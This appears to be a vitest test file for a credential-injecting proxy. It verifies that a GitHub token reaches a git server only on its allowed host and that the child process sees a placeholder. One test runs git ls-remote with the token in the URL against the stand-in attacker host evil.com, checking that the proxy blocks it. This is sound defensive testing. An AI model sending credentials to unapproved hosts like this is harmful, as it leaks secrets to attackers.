// git over HTTPS through `vaultgate run`: a strict smart-HTTP server gets the real token in Basic credentials, only on its allowed host.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import https from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eventsOf } from '../agents/helpers.js';
import { leaks, requireBuiltCli } from '../helpers/kit.js';
import { agentWith, allUpstreamBytes, runAs, startWorld, type AgentFx, type World } from '../proxy/helpers.js';
import { gitRoute, isolatedGitEnv, makeBareRepo, type BareRepo, type GitRoute } from './git-server.js';

const HOST = 'api.x.com';
const USER = 'x-access-token';
// 40 characters: `x-access-token:` + token is 55 bytes, so its base64 needs `==`. The placeholder's
// credentials (60 bytes) need none, which is what made the proxy drop the padding before the fix.
const TOKEN = 'ghp_T0kenForGitOverHttpsq9Zxq9Zxq9Zxq9Zx';

let w: World;
let fx: AgentFx;
let repo: BareRepo;
let git: GitRoute;
let home: string;
const clones: string[] = [];

beforeAll(async () => {
  requireBuiltCli();
  expect(TOKEN).toHaveLength(40);
  repo = makeBareRepo();
  git = gitRoute(repo, USER, TOKEN);
  w = await startWorld();
  // Every host name of the upstream serves the same strict git server (evil.com included).
  w.up.routes.set(`/${repo.name}/`, git.handler);
  fx = await agentWith(w.s, [{ key: 'GITHUB_TOKEN', value: TOKEN, allowed_domains: [HOST] }]);
  home = mkdtempSync(join(tmpdir(), 'vg-git-home-'));
});
afterAll(async () => {
  await w.close();
  for (const dir of [repo.dir, home, ...clones]) rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => {
  w.up.reset();
  git.seen.length = 0;
});

/** `vaultgate run --agent <id> -- sh -c script` with a parent env free of the machine's CA and git settings. */
const vgRun = (script: string) => runAs(w.s, fx.id, ['sh', '-c', script], { env: isolatedGitEnv(home) });

const remote = (host: string) => `https://${USER}:$GITHUB_TOKEN@${host}/${repo.name}`;

/** Every form of the real token in all the upstream received, decrypted. */
const upstreamLeaks = () => leaks('upstream', allUpstreamBytes(w.up), TOKEN);

describe('git through vaultgate run, with the token in Basic credentials', () => {
  it('ls-remote: the strict server decodes exactly the real token and git lists the commit', async () => {
    const r = await vgRun(`git ls-remote ${remote(HOST)}`);
    expect([r.code, r.stdout], r.stderr).toEqual([0, `${repo.commit}\tHEAD\n${repo.commit}\trefs/heads/main\n`]);
    // git sends credentials only after the 401 challenge; every request after it carried the value.
    expect(git.seen[0]).toEqual({ host: HOST, path: `/${repo.name}/info/refs?service=git-upload-pack`, credentials: 'none', status: 401 });
    const authenticated = git.seen.slice(1);
    expect(authenticated.length).toBeGreaterThan(0);
    expect(authenticated.map((s) => [s.host, s.credentials, s.status])).toEqual(authenticated.map(() => [HOST, `${USER}:${TOKEN}`, 200]));
  });

  it('clone: the work tree holds the served file at the served commit', async () => {
    clones.push(mkdtempSync(join(tmpdir(), 'vg-git-clone-')));
    const dest = join(clones.at(-1)!, 'clone');
    const r = await vgRun(`git clone -q ${remote(HOST)} ${dest} && git -C ${dest} rev-parse HEAD`);
    expect([r.code, r.stdout], r.stderr).toEqual([0, `${repo.commit}\n`]);
    expect(readFileSync(join(dest, repo.file), 'utf8')).toBe(repo.content);
    expect(git.seen.filter((s) => s.status === 200).every((s) => s.credentials === `${USER}:${TOKEN}`)).toBe(true);
    expect(git.seen.some((s) => s.path === `/${repo.name}/git-upload-pack` && s.status === 200)).toBe(true);
  });

  it("the child's environment holds the placeholder, never the value", async () => {
    const r = await vgRun('env');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.split('\n').filter((l) => l.startsWith('GITHUB_TOKEN='))).toEqual([`GITHUB_TOKEN=${fx.env.GITHUB_TOKEN}`]);
    expect(fx.env.GITHUB_TOKEN).toMatch(/^vgph_[0-9A-Za-z]{40}$/);
    expect(leaks('child env', r.stdout, TOKEN)).toEqual([]);
  });

  it('the same command against a host the secret does not allow: no value, git fails, proxy.blocked', async () => {
    const before = (await eventsOf(w.s, 'proxy.blocked')).length;
    const r = await vgRun(`git ls-remote ${remote('evil.com')}`);
    expect(r.code).not.toBe(0);
    expect(r.stdout).toBe('');
    // The challenge went out without credentials; the retry carrying the placeholder never left the proxy.
    expect(git.seen).toEqual([{ host: 'evil.com', path: `/${repo.name}/info/refs?service=git-upload-pack`, credentials: 'none', status: 401 }]);
    expect(w.up.requests.map((q) => q.headers.authorization)).toEqual([undefined]);
    expect(upstreamLeaks()).toEqual([]);
    const blocked = (await eventsOf(w.s, 'proxy.blocked')).slice(before);
    expect(blocked.map((e) => [e.agent_id, e.secret_id, e.details.host, e.reason])).toEqual([[fx.id, fx.ids.GITHUB_TOKEN, 'evil.com', 'destination not allowed for this secret']]);
  });
});

/** One GET to the git server directly (no proxy) with these Basic credentials, as base64 `token`. */
function direct(token: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = https.request(
      { host: '127.0.0.1', port: w.up.port, servername: HOST, ca: w.pki.ca.certPem, path: `/${repo.name}/info/refs?service=git-upload-pack`, headers: { host: HOST, authorization: `Basic ${token}` } },
      (res) => res.resume().on('end', () => resolve(res.statusCode ?? 0)),
    );
    req.on('error', reject).end();
  });
}

describe('the server is strict (control)', () => {
  it('the same credentials unpadded are refused; padded they are accepted', async () => {
    const padded = Buffer.from(`${USER}:${TOKEN}`).toString('base64');
    expect(padded.endsWith('==')).toBe(true);
    expect(await direct(padded.replace(/=+$/, ''))).toBe(401);
    expect(await direct(padded)).toBe(200);
    expect(git.seen.map((s) => s.credentials)).toEqual(['malformed', `${USER}:${TOKEN}`]);
  });
});
